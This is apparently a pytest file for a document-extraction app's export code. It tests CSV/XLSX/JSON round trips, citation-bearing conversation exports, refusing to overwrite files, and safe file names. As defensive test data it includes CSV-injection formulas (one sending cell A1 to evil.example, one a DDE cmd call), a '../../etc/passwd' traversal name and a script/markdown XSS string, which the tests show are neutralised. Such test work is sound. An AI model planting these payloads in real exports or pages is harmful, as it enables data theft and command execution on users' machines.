"""Exports: tables round-trip through CSV, XLSX and JSON; conversations carry citations and sha256s;
nothing is overwritten without asking; file names are safe."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.context import AppContext
from app.export import (
    CSV_PARTS,
    Exporter,
    FileExists,
    cell_status,
    confidence_text,
    review_columns,
    safe_filename,
    write_new,
)
from app.extraction.cells import BAD_PAGE, QUOTE_NOT_FOUND, QUOTED, SUPPORTED, UNSUPPORTED
from app.extraction.review import review_cell
from app.extraction.runner import Cell, ExtractionService, ExtractionTable
from app.extraction.templates import TemplateField, TemplateStore
from app.store.conversations import Conversations
from inference.events import GenerationStats

STATS = GenerationStats(800, 0, 40, 100.0, 200.0, 4096, "eos")


def _cells(doc_ids: list[int], keys: list[str]) -> list[Cell]:
    cells = []
    for d in doc_ids:
        for i, key in enumerate(keys):
            kind = (i + d) % 4
            if kind == 0:
                # A decision the model scored (app.extraction.decide): unsure it is absent.
                cells.append(Cell(d, key, found=False, value="no", yes_no=i >= 8, score=0.41, threshold=0.5,
                                  decided_by="logits", confidence=0.59))  # fmt: skip
            elif kind == 1:
                cells.append(Cell(d, key, True, "Delaware", "laws of the State of Delaware", "4", 4, "4", None,
                                  "exact", 1.0, verdict=QUOTED, passage="laws of the State of Delaware"))  # fmt: skip
            elif kind == 2:
                cells.append(Cell(d, key, True, '=HYPERLINK("http://x")', "a, \"quoted\"\nline", "iv", 2, "iv", None,
                                  "fuzzy", 0.93, verdict=SUPPORTED))  # fmt: skip
            else:
                cells.append(Cell(d, key, True, "ninety días", "not in the text", "9", None, None, None, "not_found",
                                  0.41, (BAD_PAGE, QUOTE_NOT_FOUND), verdict=UNSUPPORTED))  # fmt: skip
    return cells


@pytest.fixture
def table(starter_home: Path, tmp_path: Path) -> tuple[AppContext, int, ExtractionTable]:
    from app.context import open_app
    from tests.fixtures.pdfs import make_contract_pdf, make_text_pdf

    ctx = open_app()
    a = ctx.library.add(make_contract_pdf(tmp_path / "a.pdf")).document.id
    b = ctx.library.add(make_text_pdf(tmp_path / "b.pdf", ["Other contract"])).document.id
    template = TemplateStore.for_config(ctx.paths.config_dir).get("contract_review")
    service = ExtractionService(ctx)
    run = service.start_run(template, [a, b])
    keys = [f.key for f in template.fields]
    service._store(run, _cells([a, b], keys), {}, STATS)
    review_cell(ctx, run, a, keys[1], "corrected", "Delaware (New Castle County courts)")
    review_cell(ctx, run, a, keys[2], "rejected")
    review_cell(ctx, run, b, keys[0], "accepted")
    yield ctx, run, service.table(run)
    ctx.close()


def _expected(table: ExtractionTable) -> dict[tuple[str, str], tuple[object, ...]]:
    out = {}
    for d in table.documents:
        for f in table.fields:
            c = table.cell(d.id, f.key)
            assert c is not None
            review = table.review(d.id, f.key)
            out[(d.sha256, f.name)] = (
                c.display,
                cell_status(c),
                confidence_text(c),
                c.quote,
                c.anchor_text,
                ";".join(c.flags),
                *review_columns(review, c),
            )
    return out


def test_csv_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
    ctx, run, t = table
    result = Exporter(ctx).table(run, tmp_path / "out.csv")
    rows = list(csv.reader(io.StringIO(result.path.read_text(encoding="utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(header) == 2 + 41 * len(CSV_PARTS)
    assert [h for h in header[2:] if " | " not in h] == [f.name for f in t.fields]  # 41 field columns
    back = {}
    for row in body:
        for i, f in enumerate(t.fields):
            start = 2 + i * len(CSV_PARTS)
            back[(row[1], f.name)] = tuple(row[start : start + len(CSV_PARTS)])
    # Cells a spreadsheet would run as formulas carry a leading apostrophe (see the test below); the rest is as stored.
    expected = {k: tuple("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v for v in parts)
                for k, parts in _expected(t).items()}  # fmt: skip
    assert back == expected
    assert any(v.startswith("'=HYPERLINK(") for parts in back.values() for v in parts)


def test_xlsx_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
    from openpyxl import load_workbook

    ctx, run, t = table
    path = Exporter(ctx).table(run, tmp_path / "out.xlsx").path
    wb = load_workbook(path)
    sheet = wb["Table"]
    header = [c.value for c in sheet[1]]
    assert header == ["Document", "Document sha256", *(f.name for f in t.fields)]
    for r, d in enumerate(t.documents, start=2):
        assert sheet.cell(r, 2).value == d.sha256
        for c, f in enumerate(t.fields, start=3):
            cell = t.cell(d.id, f.key)
            assert cell is not None
            assert sheet.cell(r, c).value == cell.display
            assert sheet.cell(r, c).data_type == "s"  # '=HYPERLINK(...)' stays text
            if cell.found:
                assert cell.quote in sheet.cell(r, c).comment.text
    ev = wb["Evidence"]
    names = [c.value for c in ev[1]]
    back = {}
    for row in ev.iter_rows(min_row=2, values_only=True):
        rec = dict(zip(names, row, strict=True))
        confidence = f"{rec['Confidence']} ({rec['Confidence (number)']:.2f})" if rec["Confidence"] else ""
        back[(rec["Document sha256"], rec["Field"])] = (
            rec["Value"],
            rec["Check"],
            confidence,
            rec["Quote"] or "",
            rec["Where"] or "",
            rec["Flags"] or "",
            rec["Review"] or "",
            rec["Reviewed value"] or "",
        )
    assert back == _expected(t)
    reviewed = wb["Reviewed"]  # the values in force after review, beside the model's own (Table)
    a = t.documents[0]
    by_name = {c.value: i for i, c in enumerate(reviewed[1], start=1)}
    assert reviewed.cell(2, by_name[t.fields[1].name]).value == "Delaware (New Castle County courts)"
    assert sheet.cell(2, by_name[t.fields[1].name]).value == t.cell(a.id, t.fields[1].key).display
    assert reviewed.cell(2, by_name[t.fields[2].name]).value is None  # rejected: no value in force
    run_sheet = {row[0]: row[1] for row in wb["Run"].iter_rows(values_only=True) if row[0]}
    assert run_sheet["model_sha256"] == t.run.model_sha256 and run_sheet["template_version"] == t.run.template.version
    assert run_sheet["design"] == t.run.design


def test_json_round_trip(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
    ctx, run, t = table
    path = Exporter(ctx).table(run, tmp_path / "out.json").path
    data = json.loads(path.read_text())
    assert data["run"]["template_sha256"] == t.run.template_sha256
    assert [d["sha256"] for d in data["documents"]] == [d.sha256 for d in t.documents]
    back = {(c["document_id"], c["field_key"]): Cell.from_dict(c) for c in data["cells"]}
    assert back == t.cells
    reviews = {(c["document_id"], c["field_key"]): c["review"] for c in data["cells"] if c["review"]}
    assert {k: v["decision"] for k, v in reviews.items()} == {k: r.decision for k, r in t.reviews.items()}
    assert {c["status"] for c in data["cells"]} <= {"quoted", "supported", "unsupported", "not stated", "absent"}
    scored = [c for c in data["cells"] if c["confidence"] is not None]  # the scored decisions and their words
    assert scored and {(c["score"], c["confidence"], c["confidence_word"], c["decided_by"]) for c in scored} == {
        (0.41, 0.59, "check", "logits")
    }


def test_never_overwrites_without_asking(table: tuple[AppContext, int, ExtractionTable], tmp_path: Path) -> None:
    ctx, run, _t = table
    target = tmp_path / "out.json"
    target.write_text("precious")
    with pytest.raises(FileExists, match="already exists"):
        Exporter(ctx).table(run, target)
    assert target.read_text() == "precious"
    Exporter(ctx).table(run, target, overwrite=True)
    assert json.loads(target.read_text())["run"]["run_id"] == run
    assert [e.action for e in ctx.audit.entries()][-1] == "export"


def test_conversation_markdown_and_pdf_carry_citations_and_sha256(
    ctx: AppContext, contract_pdf: Path, tmp_path: Path
) -> None:
    import pymupdf

    doc = ctx.library.add(contract_pdf).document
    convs = Conversations(ctx.db)
    conv = convs.create([doc.id], "Governing law")
    convs.add_message(conv, "user", "Which law governs?")
    cites = [
        {"text": "[p. 4]", "valid": True, "quote_found": True},
        {"text": "[p. 9]", "valid": False, "quote_found": None},
    ]
    answer = 'It is "the laws of the State of Delaware" [p. 4]. The fee is 99 euros. It is payable monthly.'
    from app.citations.grounding import Sources, ground_answer

    claims = [v.to_dict() for v in ground_answer(answer, Sources.load(ctx, [doc.id])).claims]
    reply = convs.add_message(conv, "assistant", answer, citations=cites, model="Gemma (demo)",
                              model_sha256="cd" * 32)  # fmt: skip
    convs.update_message(reply, claims=claims)
    exporter = Exporter(ctx)
    md = exporter.conversation(conv, tmp_path / "c.md").path.read_text()
    assert doc.sha256 in md and "cd" * 32 in md
    assert "[p. 4] - page exists - quote found" in md and "[p. 9] - page not in the document" in md
    assert "page checked" not in md  # a page that exists is not a check of the sentence
    assert "Checked sentence by sentence (1 quoted · 1 unsupported · 1 not checked)" in md
    assert "**✓ quoted p. 4** It is" in md and "Quoted: the quoted words were found on p. 4" in md
    assert "**✗ unsupported** The fee is 99 euros." in md and "Not in the document at all: “99 euros”" in md
    pdf = exporter.conversation(conv, tmp_path / "c.pdf").path
    with pymupdf.open(pdf) as opened:
        text = " ".join(page.get_text() for page in opened)
    flat = " ".join(text.split())
    assert doc.sha256 in flat.replace(" ", "") and "Which law governs?" in flat
    assert "page exists - quote found" in flat and "✓ quoted p. 4" in flat and "✗ unsupported" in flat
    with pytest.raises(FileExists):
        exporter.conversation(conv, tmp_path / "c.pdf")
    with pytest.raises(Exception, match="use one of"):
        exporter.conversation(conv, tmp_path / "c.docx")


@given(st.text(max_size=300))
def test_safe_filenames(name: str) -> None:
    out = safe_filename(name, "xlsx")
    stem = out[: -len(".xlsx")]
    assert out.endswith(".xlsx") and stem and len(stem) <= 120
    assert not any(c in stem for c in '<>:"/\\|?*') and all(ord(c) >= 32 for c in stem)
    assert stem == stem.strip(" .") or stem.startswith("folio-")
    assert stem.lower() not in ("con", "nul", "aux", "prn")


def test_safe_filename_examples() -> None:
    assert safe_filename("Extraction 3 - Contract review (CUAD, 41 clauses)", "csv") == (
        "Extraction 3 - Contract review (CUAD, 41 clauses).csv"
    )
    assert safe_filename("../../etc/passwd", "md") == "etc passwd.md"
    assert safe_filename("CON", "md") == "folio-CON.md"


def test_write_new_refuses_a_race(tmp_path: Path) -> None:
    target = tmp_path / "x.bin"
    write_new(target, b"one")
    with pytest.raises(FileExists):
        write_new(target, b"two")
    assert target.read_bytes() == b"one" and [p.name for p in tmp_path.iterdir()] == ["x.bin"]


FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1, "open")', "+44 20 7946 0000", "-2% growth",
            "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1"]  # fmt: skip
HARMLESS = ["Delaware", "a=b", "2 + 2", "'already quoted", "  =spaced"]


def test_spreadsheet_formulas_from_documents_never_run(starter_home: Path, tmp_path: Path) -> None:
    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or carriage return is marked as text
    (CSV: a leading apostrophe; XLSX: stored as text with Excel's quote-prefix mark, value unchanged)."""
    from openpyxl import load_workbook

    from app.context import open_app
    from tests.fixtures.pdfs import make_contract_pdf

    ctx = open_app()
    try:
        doc = ctx.library.add(make_contract_pdf(tmp_path / "a.pdf")).document.id
        values = FORMULAS + HARMLESS
        nda = TemplateStore.for_config(ctx.paths.config_dir).get("nda")
        own = tuple(TemplateField(f"field_{i}", f"Field {i}", "") for i in range(len(values)))  # short answers
        tpl = dataclasses.replace(nda, key="formulas", fields=own)
        service = ExtractionService(ctx)
        run = service.start_run(tpl, [doc])
        fields = [f.key for f in tpl.fields][: len(values)]
        names = [f.name for f in tpl.fields][: len(values)]
        cells = [
            Cell(doc, key, True, value, value, "1", 1, "1", None, "exact", 1.0)
            for key, value in zip(fields, values, strict=True)
        ]
        service._store(run, cells, {}, STATS)
        exporter = Exporter(ctx)
        with exporter.table(run, tmp_path / "t.csv").path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))  # newline="": a carriage return inside a cell stays one
        book = load_workbook(exporter.table(run, tmp_path / "t.xlsx").path)
    finally:
        ctx.close()
    by_name = dict(zip(rows[0], rows[1], strict=True))
    for value, name in zip(values, names, strict=True):
        written = by_name[name]
        assert by_name[f"{name} | quote"] == written  # the quote column is neutralised the same way
        if value in FORMULAS:
            assert written == "'" + value
        else:
            assert written == value
    sheet = book["Table"]
    header = [c.value for c in sheet[1]]
    for value, name in zip(values, names, strict=True):
        cell = sheet.cell(2, header.index(name) + 1)
        # openpyxl's own XML reader turns a CR into LF; with lxml installed (python-docx needs it) the CR stays.
        assert cell.value in (value, value.replace("\r", "\n")) and cell.data_type == "s"
        assert bool(cell.quotePrefix) is (value in FORMULAS)
    evidence = book["Evidence"]
    marked = [c.value for row in evidence.iter_rows(min_row=2) for c in row if c.quotePrefix]
    assert {v.replace("\r", "\n") for v in marked} == {v.replace("\r", "\n") for v in FORMULAS}  # value, quote


def test_answer_markdown_is_rendered_but_never_followed() -> None:
    from app.export import markdown_html

    answer = "The term is **ninety days**.\n\n![x](/etc/passwd) [site](http://x.test) <script>alert(1)</script>"
    out = markdown_html(answer)
    assert "<strong>ninety days</strong>" in out  # the answer's own Markdown reaches the PDF
    assert "<img" not in out and "<a " not in out and "<script>" not in out
    assert "&lt;script&gt;" in out and "site" in out  # shown as words
